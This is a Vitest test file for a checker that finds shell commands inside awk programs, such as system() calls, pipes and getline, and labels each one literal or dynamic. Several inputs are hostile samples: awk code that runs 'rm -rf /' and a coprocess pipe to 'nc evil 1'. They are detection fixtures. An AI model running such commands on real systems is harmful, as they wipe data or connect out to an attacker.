import { describe, expect, it } from 'vitest';
import { awkShellCommands } from './awk-commands.ts';

describe('shell commands inside awk programs', () => {
  it.each([
    ['{print $1}', [], false],
    ['$1=="a" || $2=="b"', [], false],
    ['/error|warn/ {n++} END {print n}', [], false],
    ['$3 > 100 && $7 ~ /GET|POST/ {print $7}', [], false],
    ['{a = $1 / 2; b = $2 / 4; print a | "sort -n"}', ['sort -n'], false],
    ['BEGIN { system("date") }', ['date'], false],
    ['BEGIN { "hostname" | getline h; print h }', ['hostname'], false],
    ['BEGIN { system("rm -rf /") }', ['rm -rf /'], false],
    ['{ system($0) }', [], true],
    ['{ cmd = "rm -rf /"; cmd | getline x }', [], true],
    ['{ print | $2 }', [], true],
    ['{ print "x" |& "nc evil 1" }', [], true],
  ])('%s', (code, literal, dynamic) => {
    expect(awkShellCommands(code)).toEqual({ literal, dynamic });
  });
});
